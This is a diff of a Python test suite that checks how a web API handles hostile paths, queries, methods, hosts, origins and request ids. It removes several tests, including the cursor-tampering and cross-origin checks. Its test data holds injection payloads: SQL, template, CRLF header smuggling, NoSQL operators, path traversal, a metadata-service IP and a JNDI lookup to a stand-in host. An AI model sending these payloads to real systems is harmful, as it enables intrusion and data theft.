@@ -1,4 +1,4 @@
-"""Hostile request lines and headers: paths, queries, cursors, methods, origins, hosts and request ids."""
+"""Hostile request lines and headers: paths, queries, methods, hosts, request ids, and line ends in any of them."""
 
 from __future__ import annotations
 
@@ -16,58 +16,16 @@ NOWHERE, BAD, INVALID, LONG = (
 )
 SERVED = (200, "")
 
-IDS = {
-    "zero": "0",
-    "negative": "-1",
-    "minus zero": "-0",
-    "plus": "+1",
-    "leading zero": "01",
-    "float": "1.0",
-    "exponent": "1e0",
-    "hex": "0x1",
-    "underscore": "1_",
-    "word": "me",
-    "null": "null",
-    "NaN": "NaN",
-    "past 64 bits": str(2**63),
-    "unsigned 64 bits": str(2**64 - 1),
-    "300 digits": "9" * 300,
-    "Arabic digit": "%D9%A1",
-    "full-width digit": "%EF%BC%91",
-    "superscript": "%C2%B9",
-    "NUL after": "1%00",
-    "newline after": "1%0a",
-    "space after": "1%20",
-    "tab before": "%091",
-    "SQL": "1%20OR%201=1",
-    "SQL comment": "1--",
-    "SQL union": "1%20UNION%20SELECT%201",
-    "quote": "1%27",
-    "template": "%7B%7B7*7%7D%7D",
-    "format": "%25s",
-    "wildcard": "%25",
-    "star": "*",
-    "list": "1,2",
-    "object": "%7B%22$ne%22:0%7D",
-    "matrix parameter": "1;a=b",
-    "encoded slash": "1%2F2",
-    "backslash": "1%5C2",
-    "suffix": "1.json",
-    "overlong": "%C0%B1",
-    "not UTF-8": "%FF",
-    "half an escape": "1%",
-    "no escape": "%zz",
-    "encoded twice": "%2531",
-    "CRLF": "1%0d%0aX-Evil:%201",
-    "UTF-16 digit": "%001",
-    "zero width": "1%E2%80%8B",
-}
+# Texts in place of an id; tests/posts/test_get_post.py has more.
+IDS = (
+    *("-0", "0x1", "1_", "null", "NaN", "9" * 300, "1%00", "1%0a", "%091", "1%20OR%201=1", "1--", "1%27", "%25s"),
+    *("%25", "1%20UNION%20SELECT%201", "%7B%7B7*7%7D%7D", "*", "1,2", "%7B%22$ne%22:0%7D", "1;a=b", "1%2F2", "1%5C2"),
+    *("1.json", "%C0%B1", "%FF", "1%", "%zz", "%2531", "1%0d%0aX-Evil:%201", "%001", "1%E2%80%8B"),
+)
 PATHS = [
-    *(ask(f"post {name}", f"GET /posts/{text}", *NOWHERE) for name, text in IDS.items()),
-    *(ask(f"user {name}", f"DELETE /users/{text}", *NOWHERE, who="carol") for name, text in IDS.items()),
-    *(ask(f"session {name}", f"DELETE /auth/sessions/{text}", *NOWHERE, who="alice") for name, text in IDS.items()),
-    ask("slash at the end", "GET /posts/", *NOWHERE),
-    ask("two slashes", "GET //api/v1//posts", *NOWHERE),
+    *(ask(f"post {text[:25]}", f"GET /posts/{text}", *NOWHERE) for text in IDS),
+    *(ask(f"user {text[:25]}", f"DELETE /users/{text}", *NOWHERE, user="carol") for text in IDS),
+    *(ask(f"session {text[:25]}", f"DELETE /auth/sessions/{text}", *NOWHERE, user="alice") for text in IDS),
     raw("two slashes first name the same route", message("GET", f"/{API}/posts"), *SERVED),
     ask("upper case", "GET //API/V1/POSTS", *NOWHERE),
     ask("dot segment", "GET //api/v1/./posts", *NOWHERE),
@@ -103,89 +61,21 @@ PATHS = [
     ask("8 kB of escapes", f"GET //{'%41' * 2600}", *NOWHERE),
 ]
 
-NUMBERS = ("0", "-1", "101", "1.0", "1e1", "+1", "%2B1", "0x1", "1_0", "", "%20", "%2020", "null", "true", "NaN")
-NUMBERS_OF_BITS = (str(2**31), str(2**63), str(2**64), "9" * 30, "9" * 5000, "-" + "9" * 30)
-ALIEN_DIGITS = ("%D9%A1", "%EF%BC%91", "%C2%B2", "1%00", "%001", "1%0a", "1;2", "1,2", "1%20OR%201=1", "[1]", "{}")
-TIMES = ("yesterday", "0", "2026-01-31", "2026-13-01T00:00:00Z", "2026-01-31T25:00:00Z", "2026-01-31T00:00:00")
-HOSTILE_TIMES = (
-    *("0000-01-01T00:00:00Z", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00%2B23:59", "2026-01-31T00:00:00Z%00"),
-    *("%D9%A2026-01-31T00:00:00Z", "2026-01-31T00:00:00%2B99:99", "now()", "2026-01-31T00:00:00Z%27--"),
-)
-CURSORS = {
-    "empty": "",
-    "word": "next",
-    "dots": "..",
-    "padding": "e30=",
-    "zeros": "A" * 64,
-    "star": "*",
-    "NUL": "%00",
-    "JSON": "%7B%22id%22:0%7D",
-    "not base64": "%C3%A9",
-    "plain base64": "%2B%2F%2B%2F",
-    "SQL": "%27%20OR%201=1--",
-    "pickle": "gASVCgAAAAAAAAB9lC4",
-    "endless": "A" * 7000,
-    "lone surrogate": "%ED%A0%80",
-    "number": "0",
-}
 QUERIES = [
-    *(
-        ask(f"limit {text[:12]}-{len(text)}", f"GET /posts?limit={text}", *INVALID)
-        for text in (*NUMBERS, *NUMBERS_OF_BITS)
-    ),
-    *(ask(f"limit alien {text}", f"GET /posts?limit={text}", *INVALID) for text in ALIEN_DIGITS),
-    *(
-        ask(f"page {text[:12]}-{len(text)}", f"GET /posts?page={text}", *INVALID)
-        for text in ("0", "-1", "1.0", *NUMBERS_OF_BITS)
-    ),
-    *(
-        ask(f"author {t[:12]}-{len(t)}", f"GET /posts?author_id={t}", *INVALID)
-        for t in ("0", "-1", "x", *NUMBERS_OF_BITS[1:])
-    ),
-    *(ask(f"time {text}", f"GET /posts?created_after={text}", *INVALID) for text in (*TIMES, *HOSTILE_TIMES)),
-    *(
-        ask(f"cursor {name}", f"GET /posts?cursor={text}", *(BAD if name == "lone surrogate" else INVALID))
-        for name, text in CURSORS.items()
-    ),
-    ask("page of the last 64 bits", f"GET /posts?page={2**63 - 1}", *INVALID),
     ask("page and limit overflow", f"GET /posts?page={2**62}&limit=100", *INVALID),
-    ask("author of the last 64 bits", f"GET /posts?author_id={2**63 - 1}", *SERVED),
-    ask("sort SQL", "GET /posts?sort=created_at%20DESC;DROP%20TABLE%20users", *INVALID),
-    ask("sort by a hidden column", "GET /users?sort=password_hash", *INVALID, who="carol"),
-    ask("sort by email", "GET /users?sort=email", *INVALID, who="bob"),
     ask("sort by attribute", "GET /posts?sort=__class__", *INVALID),
-    ask("sort twice descending", "GET /posts?sort=--title", *INVALID),
-    ask("status all", "GET /posts?status=all", *INVALID),
     ask("status of a list", "GET /posts?status[]=draft", *INVALID),
-    ask("others' drafts", "GET /posts?status=draft", 401, "authentication_required"),
-    ask("filter by a private member", "GET /users?role=admin", *INVALID, who="carol"),
-    ask("filter with an operator", "GET /users?email[$ne]=x", *INVALID, who="carol"),
-    ask("search of NUL", "GET /users?q=%00", *INVALID, who="bob"),
-    ask("search of nothing", "GET /users?q=", *INVALID, who="bob"),
-    ask("search of spaces", "GET /users?q=%20", *INVALID, who="bob"),
-    ask("search of 81 letters", f"GET /users?q={'a' * 81}", *INVALID, who="bob"),
-    ask("search of newlines", "GET /users?q=%0d%0a", *INVALID, who="bob"),
-    ask("unknown parameter", "GET /posts?debug=1", *INVALID),
-    ask("unknown parameter on a write", "DELETE /posts/1?force=true", *INVALID, who="alice"),
+    ask("filter with an operator", "GET /users?email[$ne]=x", *INVALID, user="carol"),
     ask("prototype parameter", "GET /posts?__proto__[x]=1", *INVALID),
-    ask("parameter in upper case", "GET /posts?LIMIT=1", *INVALID),
-    ask("parameter with NUL", "GET /posts?limit%00=1", *INVALID),
-    ask("parameter without a name", "GET /posts?=1", *INVALID),
-    ask("limit twice", "GET /posts?limit=1&limit=1", *INVALID),
     ask("limit twice, encoded", "GET /posts?limit=1&l%69mit=2", *INVALID),
     ask("limit as a list", "GET /posts?limit[]=1", *INVALID),
-    ask("semicolon between", "GET /posts?limit=1;page=1", *INVALID),
-    ask("page and cursor", "GET /posts?page=1&cursor=x", *INVALID),
-    ask("not UTF-8", "GET /posts?limit=%FF", *BAD),
-    ask("overlong", "GET /posts?limit=%C0%B1", *BAD),
-    ask("encoded surrogate", "GET /posts?limit=%ED%A0%80", *BAD),
-    ask("not UTF-8 in a name", "GET /posts?%FF=1", *BAD),
-    ask("101 parameters", "GET /posts?" + "&".join(f"a{n}=1" for n in range(101)), *BAD),
+    *(ask("semicolon between", "GET /posts?limit=1;page=1", *INVALID), ask("not UTF-8", "GET /posts?limit=%FF", *BAD)),
+    *(ask("overlong", "GET /posts?limit=%C0%B1", *BAD), ask("not UTF-8 in a name", "GET /posts?%FF=1", *BAD)),
     ask("3,000 empty parameters", "GET /posts?" + "&" * 3000, *BAD),
     ask("9 kB query", f"GET /posts?limit={'1' * 9000}", *LONG),
     ask("10 MB query", f"GET /posts?limit={'1' * 10_000_000}", *LONG),
     ask("callback", "GET /posts?callback=alert", *INVALID),
-    ask("method by query", "GET /posts/1?_method=DELETE", *INVALID, who="alice"),
+    ask("method by query", "GET /posts/1?_method=DELETE", *INVALID, user="alice"),
     ask("redirect", "GET /posts?next=https://evil.example", *INVALID),
 ]
 
@@ -200,32 +90,9 @@ def test_an_invalid_query(target: Target, case: Case) -> None:
     check(target, case)
 
 
-def test_a_search_text_is_no_pattern(target: Target) -> None:
-    for text in ("%25", "_", "%5C", "%27%20OR%201=1--", "a%25", "%28%5B"):
-        answer = check(target, ask(text, f"GET /users?q={text}", *SERVED, who="bob"))
-        assert answer.json()["items"] == []
-
-
-def test_a_stranger_cannot_search_addresses(target: Target) -> None:
-    for text in ("example.com", "carol@", "@"):
-        assert check(target, ask(text, f"GET /users?q={text}", *SERVED, who="bob")).json()["items"] == []
-        assert check(target, ask(text, f"GET /users?q={text}", *SERVED, who="carol")).json()["items"]
-
-
-def test_a_cursor_is_valid_for_its_own_list_only(target: Target) -> None:
-    first = check(target, ask("first", "GET /users?limit=1", *SERVED, who="bob"))
-    cursor = first.json()["pagination"]["next_cursor"]
-    check(target, ask("same", f"GET /users?cursor={cursor}", *SERVED, who="bob"))
-    tampered = [f"{cursor[:n]}{'B' if cursor[n] == 'A' else 'A'}{cursor[n + 1 :]}" for n in (0, 30, len(cursor) - 1)]
-    for text in (*tampered, cursor + "=", cursor[:-1], cursor + "A", cursor * 2):
-        check(target, ask("tampered", f"GET /users?cursor={text}", *INVALID, who="bob"))
-    for path in ("/users?sort=name&", "/users?q=a&", "/posts?", "/auth/sessions?"):
-        check(target, ask("elsewhere", f"GET {path}cursor={cursor}", *INVALID, who="bob"))
-
-
 NOT_ALLOWED = (405, "method_not_allowed")
 METHODS = [
-    *(ask(method, f"{method} /posts/1", *NOT_ALLOWED, who="alice") for method in ("TRACE", "CONNECT", "POST", "COPY")),
+    *(ask(method, f"{method} /posts/1", *NOT_ALLOWED, user="alice") for method in ("TRACE", "CONNECT", "POST", "COPY")),
     *(ask(f"{m} of WebDAV", f"{m} /posts", *NOT_ALLOWED) for m in ("PROPFIND", "MKCOL", "MOVE", "LOCK", "SEARCH")),
     *(
         ask(f"invented {m}", f"{m} /posts", *NOT_ALLOWED)
@@ -237,17 +104,17 @@ METHODS = [
     ),
     ask("long method", "X" * 100 + " /posts", *BAD),
     ask("TRACE at the root", "TRACE //", *NOWHERE),
-    ask("PUT of a list", "PUT /posts", *NOT_ALLOWED, who="alice"),
-    ask("DELETE of a list", "DELETE /posts", *NOT_ALLOWED, who="carol"),
+    ask("PUT of a list", "PUT /posts", *NOT_ALLOWED, user="alice"),
+    ask("DELETE of a list", "DELETE /posts", *NOT_ALLOWED, user="carol"),
     ask("GET of a login", "GET /auth/login?email=a&password=b", *NOT_ALLOWED),
-    ask("GET of a logout", "GET /auth/logout", *NOT_ALLOWED, who="alice"),
+    ask("GET of a logout", "GET /auth/logout", *NOT_ALLOWED, user="alice"),
     ask("PATCH of the probe", "PATCH //health", *NOT_ALLOWED),
 ]
 OVERRIDES = ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method")
 REWRITES = ("X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Prefix", "X-Script-Name", "SCRIPT_NAME", "Base-Url")
 METHODS += [
-    *(ask(name, "GET /posts/1", *SERVED, who="alice", headers=[(name, "DELETE")]) for name in OVERRIDES),
-    *(ask(f"POST with {n}", "POST /posts/1", *NOT_ALLOWED, who="alice", headers=[(n, "DELETE")]) for n in OVERRIDES),
+    *(ask(name, "GET /posts/1", *SERVED, user="alice", headers=[(name, "DELETE")]) for name in OVERRIDES),
+    *(ask(f"POST with {n}", "POST /posts/1", *NOT_ALLOWED, user="alice", headers=[(n, "DELETE")]) for n in OVERRIDES),
     *(ask(name, "GET /posts", *SERVED, headers=[(name, "/api/v1/service-context")]) for name in REWRITES),
     raw("PRI", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", *BAD),
     raw("upgrade to h2c", message("GET", f"{API}/posts", {"Upgrade": "h2c", "HTTP2-Settings": "AAMAAABk"}), *SERVED),
@@ -274,29 +141,11 @@ def test_a_method_or_message_of_another_kind(target: Target, case: Case) -> None
         assert answer.headers["Allow"]
 
 
-HOSTS = {
-    "another": "evil.example",
-    "with path": "evil.example/x",
-    "userinfo": "api.example.com@evil.example",
-    "port": "evil.example:99999",
-    "not a port": "h:port",
-    "quote": 'h"x',
-    "markup": "<script>",
-    "empty": "",
-    "loopback": "127.0.0.1:1",
-    "link-local": "169.254.169.254",
-    "brackets": "[::1",
-    "space": "a b",
-    "dots": "..",
-    "percent": "%00",
-    "non-ASCII": "b\xfccher.example",
-    "comma": "a.example, b.example",
-    "4 kB": "h" * 4000,
-    "template": "{{7*7}}",
-    "SQL": "' OR 1=1 --",
-    "scheme": "https://evil.example",
-    "null": "null",
-}
+HOSTS = (
+    *("evil.example", "evil.example/x", "api.example.com@evil.example", "evil.example:99999", "h:port", "<script>", ""),
+    *('h"x', "127.0.0.1:1", "169.254.169.254", "[::1", "a b", "..", "%00", "b\xfccher.example", "a.example, b.example"),
+    *("h" * 4000, "{{7*7}}", "' OR 1=1 --", "https://evil.example", "null"),
+)
 FORWARDED = {
     "X-Forwarded-Host": "evil.example",
     "X-Forwarded-Server": "evil.example",
@@ -312,13 +161,13 @@ FORWARDED = {
 
 def test_no_host_is_copied_to_a_response(target: Target) -> None:
     """A forged Host must not get into Link, Location or a body, where caches and emails would spread it."""
-    for name, host in HOSTS.items():
+    for host in HOSTS:
         answer = target.send(message("GET", f"{API}/posts?page=1&limit=1", {"Host": host}))
-        assert answer.status in (200, 400), name
+        assert answer.status in (200, 400), host
         said = (str(answer.headers).encode() + answer.body).lower()
-        assert b"evil" not in said, name
+        assert b"evil" not in said, host
         if answer.status == 200:
-            assert answer.headers["Link"].startswith("</api/v1/"), name
+            assert answer.headers["Link"].startswith("</api/v1/"), host
 
 
 def test_no_forwarding_header_is_trusted(target: Target) -> None:
@@ -352,73 +201,13 @@ def test_an_absolute_target_is_not_followed(target: Target, case: Case) -> None:
     assert b"evil" not in str(answer.headers).encode() + answer.body
 
 
-ORIGINS = {
-    "null": "null",
-    "empty": "",
-    "star": "*",
-    "other": "https://evil.example",
-    "scheme": "http://app.example.com",
-    "port": f"{ORIGIN}:8443",
-    "default port": f"{ORIGIN}:443",
-    "slash": f"{ORIGIN}/",
-    "path": f"{ORIGIN}/x",
-    "suffix": f"{ORIGIN}.evil.example",
-    "prefix": "https://evilapp.example.com",
-    "dot": "https://appXexample.com",
-    "subdomain": "https://a.app.example.com",
-    "parent": "https://example.com",
-    "userinfo": f"{ORIGIN}@evil.example",
-    "user": "https://x@app.example.com",
-    "upper case": ORIGIN.upper(),
-    "dot at the end": f"{ORIGIN}.",
-    "two": f"{ORIGIN}, https://evil.example",
-    "two by space": f"{ORIGIN} https://evil.example",
-    "escape": f"{ORIGIN}%0d%0a",
-    "backtick": f"{ORIGIN}`.evil.example",
-    "brace": f"{ORIGIN}{{.evil.example",
-    "underscore": f"{ORIGIN}_.evil.example",
-    "file": "file://",
-    "extension": "chrome-extension://abc",
-    "tab": f"{ORIGIN}\t.x",
-    "non-ASCII": "https://\xe4pp.example.com",
-    "regular expression": "https://.*",
-    "nothing but scheme": "https://",
-}
-
-
-def test_no_other_origin_may_read_or_write(target: Target) -> None:
-    preflight = {"Access-Control-Request-Method": "DELETE", "Access-Control-Request-Headers": "authorization"}
-    for name, origin in ORIGINS.items():
-        for method, path, more in (
-            ("GET", f"{API}/posts", {}),
-            ("GET", f"{API}/auth/me", {}),
-            ("OPTIONS", f"{API}/posts/1", preflight),
-            ("GET", "/nowhere", {}),
-        ):
-            answer = target.send(message(method, path, {"Origin": origin, **more}))
-            assert not [h for h in answer.headers if h.lower().startswith("access-control")], name
-            assert "Origin" in str(answer.headers["Vary"]), name
-
-
 def test_two_origins_are_refused(target: Target) -> None:
     answer = target.send(message("GET", f"{API}/posts", [("Origin", ORIGIN), ("Origin", "https://evil.example")]))
     assert "Access-Control-Allow-Origin" not in answer.headers
 
 
-def test_the_allowed_origin_may_read(target: Target) -> None:
-    for path, status in ((f"{API}/posts", 200), (f"{API}/auth/me", 401), ("/nowhere", 404)):
-        answer = target.send(message("GET", path, {"Origin": ORIGIN}))
-        assert (answer.status, answer.headers["Access-Control-Allow-Origin"]) == (status, ORIGIN)
-
-
-REQUEST_IDS = (
-    *("", " ", "a b", "a,b", "a/b", "<script>", "a;b", '"', "'", "{}", "${jndi:ldap://evil.example}", "x" * 129),
-    *("x" * 8000, "\xe9", "\xff", "a\tb", "../../etc/passwd", "%0d%0aSet-Cookie:%20a=b", "' OR 1=1 --", "{{7*7}}"),
-)
-
-
 def test_an_invalid_request_id_is_replaced(target: Target) -> None:
-    for sent in REQUEST_IDS:
+    for sent in ("", " ", "x" * 129, "x" * 8000, "\xe9", "\xff", "a\tb"):
         answer = target.send(message("GET", f"{API}/posts/99", {"X-Request-ID": sent}))
         assert re.fullmatch("[0-9a-f]{32}", answer.headers["X-Request-ID"]), sent
         assert answer.json()["request_id"] == answer.headers["X-Request-ID"]
